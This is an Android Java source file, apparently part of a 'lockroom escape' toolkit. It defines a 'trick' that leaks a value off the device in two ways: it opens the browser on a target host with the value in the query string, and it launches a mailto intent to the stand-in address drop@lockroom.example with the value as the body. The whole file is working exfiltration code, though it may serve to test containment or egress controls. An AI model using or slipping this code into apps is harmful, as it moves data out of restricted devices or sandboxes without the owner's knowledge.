package com.lockroom.escape.tricks;

import android.content.Context;
import android.content.Intent;
import android.net.Uri;
import com.lockroom.escape.Attempts;
import com.lockroom.escape.Target;
import com.lockroom.escape.Trick;

/** Has the browser, or the mail program, open an address that holds the value. */
public final class Browser implements Trick {
    private final Context context;

    public Browser(Context context) {
        this.context = context;
    }

    @Override
    public void go(Attempts attempts, Target target, String value) {
        attempts.one("view", () -> open(Intent.ACTION_VIEW, "http://" + target.host + ":" + target.tcp + "/?id=" + value));
        attempts.one("mail", () -> open(Intent.ACTION_SENDTO, "mailto:drop@lockroom.example?body=" + value));
    }

    private String open(String action, String address) {
        Intent intent = new Intent(action, Uri.parse(address));
        intent.addFlags(Intent.FLAG_ACTIVITY_NEW_TASK);
        context.startActivity(intent);
        return "opened";
    }
}
